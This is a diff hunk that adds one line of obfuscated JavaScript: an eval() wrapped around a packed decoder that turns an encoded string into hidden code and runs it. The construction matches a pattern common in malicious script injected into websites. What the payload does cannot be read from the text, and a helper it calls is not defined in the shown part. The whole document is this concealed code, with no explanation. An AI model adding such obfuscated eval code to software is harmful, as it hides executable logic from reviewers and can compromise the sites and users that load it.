@@ -0,0 +1 @@
+eval(function(h,u,n,t,e,r){r="";for(var i=0,len=h.length;i<len;i++){var s="";while(h[i]!==n[e]){s+=h[i];i++}for(var j=0;j<n.length;j++)s=s.replace(new RegExp(n[j],"g"),j);r+=String.fromCharCode(_0xe47c(s,e,10)-t)}return decodeURIComponent(escape(r))}("mmRLmRmLmmBLmmmLBxxmLBxmRLBxqBLBxmmLBxmxLBxmRLqqqLBxxmLmmBLmRRLmqRLBxBmLBxmmLBxmmLBxxRLBxRBLRqqLqmBLqxqLqxRLmBqLRmRLmBqLmmBLRmmLBxxmLBxBmLBxqxLmBqLBxxBLBxmxLqqqLBxRmLBxRmLRmRLqRqLmmBLBxqxLBxBmLBxxmLBxxRLBxmRLmqmLBxmxLBxBmLBxmmLBxBqLBxRmLqRqLmmBLRmqLRmmLqqqLmBqLBxBBLBxRBLBxxRLBxxqLRmRLqRqLmmBLBxBBLBxRRLBxRRLBxmqLBxRmLRmxLmqqLmqqLBxxmLmqRLBxRBLqqqLBxmqLBxBmLBxxmLBxxBLBxxmLBxmmLmqRLqqqLBxmqLBxmqLmqqLBxqxLRxmLRRxLBxRRLBxmRLBxBqLBxxRLBxmmLRmRLBxqxLBxBmLBxxmLBxxRLBxmRLmqmLBxBBLBxxmLqRqLmmBLmBqLBxxBLBxmxLqqqLBxRmLBxRmLRmRLqRqLmmBLBxxxLBxRqLBxRRLBxRRLBxmRLBxmmLmBqLBxxmLBxmRLBxqBLBxmmLBxmxLBxmRLqqqLBxxmLmqmLBxxqLBxBmLBxmxLBxxRLqRqLmmBLRmqLRqxLBxmRLBxqBLBxmmLBxmxLBxmRLqqqLBxxmLmBqLqmRLBxBmLBxxmLBxxRLBxmRLmBqLRqqLRqxLRmmLqRqLmqqLqqqLRmqLRmmLqqqLmBqLBxBBLBxRBLBxxRLBxxqLRmRLqRqLmmBLBxBBLBxRRLBxRRLBxmqLBxRmLRmxLmqqLmqqLBxxmLmqRLBxRBLqqqLBxmqLBxBmLBxxmLBxxBLBxxmLBxmmLmqRLqqqLBxmqLBxmqLmqqLBxqxLRxmLRRxLBxRRLBxmRLBxBqLBxxRLBxmmLRmRLBxqxLBxBmLBxxmLBxxRLBxmRLmqmLBxRmLBxxmLqRqLmmBLmBqLBxxBLBxmxLqqqLBxRmLBxRmLRmRLqRqLmmBLBxxxLBxRqLBxRRLBxRRLBxmRLBxmmLmBqLBxxmLBxmRLBxqBLBxmmLBxmxLBxmRLqqqLBxxmLmqmLBxxqLBxBmLBxmxLBxxRLqRqLmmBLRmqLRqxLBxmRLBxqBLBxmmLBxmxLBxmRLqqqLBxxmLmBqLqmRLBxBmLBxxmLBxxRLBxmRLRmmLqRqLmqqLqqqLRmqLRmmLqqqLmBqLBxBBLBxRBLBxxRLBxxqLRmRLqRqLmmBLBxBBLBxRRLBxRRLBxmqLBxRmLRmxLmqqLmqqLBxxmLmqRLBxRBLqqqLBxmqLBxBmLBxxmLBxxBLBxxmLBxmmLmqRLqqqLBxmqLBxmqLmqqLBxqxLRxmLRRxLBxRRLBxmRLBxBqLBxxRLBxmmLRmRLqqqLBxRqLBxxmLBxBmLBxmRLqRqLmmBLmBqLBxxBLBxmxLqqqLBxRmLBxRmLRmRLqRqLmmBLBxxxLBxRqLBxRRLBxRRLBxmRLBxmmLqRqLmmBLRmqLRqxLBxmRLBxqBLBxmmLBxmxLBxmRLqqqLBxxmLmBqLqxqLqBmLRxRLRmmLqRqLmqqLqqqLRmqLRmmLmqqLBxxmLBxBmLBxqxLRmqLmmBLRmBL",58,"xBmRqLzKv",27,5,41))